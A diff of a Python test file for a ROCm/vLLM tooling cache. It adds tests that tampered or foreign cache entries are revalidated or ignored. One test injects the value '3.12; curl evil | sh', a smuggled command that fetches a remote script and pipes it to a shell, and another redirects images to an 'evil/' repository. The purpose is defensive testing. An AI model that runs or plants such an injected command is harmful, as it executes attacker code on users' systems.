@@ -7,7 +7,9 @@ from __future__ import annotations
 import json
 import pickle
 import time
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import example, given, settings
@@ -64,17 +66,69 @@ def test_compiled_matrix_cache_garbage(content: bytes) -> None:
     assert not (resources.cache_dir() / "PWNED").exists()
 
 
+def _edit_entry(entry: Path, edit: Callable[[dict[str, Any]], None]) -> None:
+    seal, _, payload = entry.read_bytes().partition(b"\n")
+    doc = json.loads(payload)
+    edit(doc)
+    entry.write_bytes(seal + b"\n" + json.dumps(doc, separators=(",", ":")).encode())
+
+
 def test_compiled_entry_with_altered_records_is_revalidated() -> None:
     """A hand-edited entry whose records would fail validation is a miss, not served."""
     matrix._load_cached.cache_clear()
     cli(["check", "--gfx", "gfx942", "--quiet"])
     (entry,) = _compiled_entries()
-    doc = json.loads(entry.read_text())
-    doc["files"]["wheels.toml"][0]["python"] = ["3.12; curl evil | sh"]
-    entry.write_text(json.dumps(doc))
+
+    def poison(doc: dict[str, Any]) -> None:
+        doc["files"]["wheels.toml"][0]["python"] = ["3.12; curl evil | sh"]
+
+    _edit_entry(entry, poison)
     matrix._load_cached.cache_clear()
     m = matrix.load()
     assert all(";" not in p for w in m.wheels for p in w.python)
+
+
+def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
+    """issue 24: an edited entry whose records are valid data (every image moved to another
+    repository) must not be served: its seal no longer matches, so the TOML is read again."""
+    matrix._load_cached.cache_clear()
+    cli(["check", "--gfx", "gfx942", "--quiet"])
+    (entry,) = _compiled_entries()
+
+    def poison(doc: dict[str, Any]) -> None:
+        for image in doc["files"]["images.toml"]:
+            image["repo"] = "evil/vllm-openai-rocm"
+
+    _edit_entry(entry, poison)
+    matrix._load_cached.cache_clear()
+    assert all(i.repo != "evil/vllm-openai-rocm" for i in matrix.load().images)
+    o = cli(["image", "--gfx", "gfx942", "--gpus", "8", "--driver", "6.4.3"])
+    assert o.code == 0, str(o)
+    assert "vllm/vllm-openai-rocm" in o.out and "evil/" not in o.out + o.err
+
+
+def test_compiled_entry_from_another_machine_is_a_miss(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """A cache dir restored from elsewhere (CI, a shared home) carries no key: its entries were
+    sealed by another key and are never read; the data files are parsed instead."""
+    matrix._load_cached.cache_clear()
+    matrix.load()
+    (entry,) = _compiled_entries()
+    monkeypatch.setenv("ROCM_VLLM_DATA_DIR", str(tmp_path / "other-user"))
+    matrix._load_cached.cache_clear()
+    parsed: list[object] = []
+    real = matrix.bounded.load_toml
+
+    def counting(*args: Any, **kw: Any) -> Any:
+        parsed.append(args[0])
+        return real(*args, **kw)
+
+    monkeypatch.setattr(matrix.bounded, "load_toml", counting)
+    matrix.load()
+    assert parsed  # the entry sealed with the first key was not trusted
+    assert entry.exists()
+    matrix._load_cached.cache_clear()
 
 
 @HOSTILE
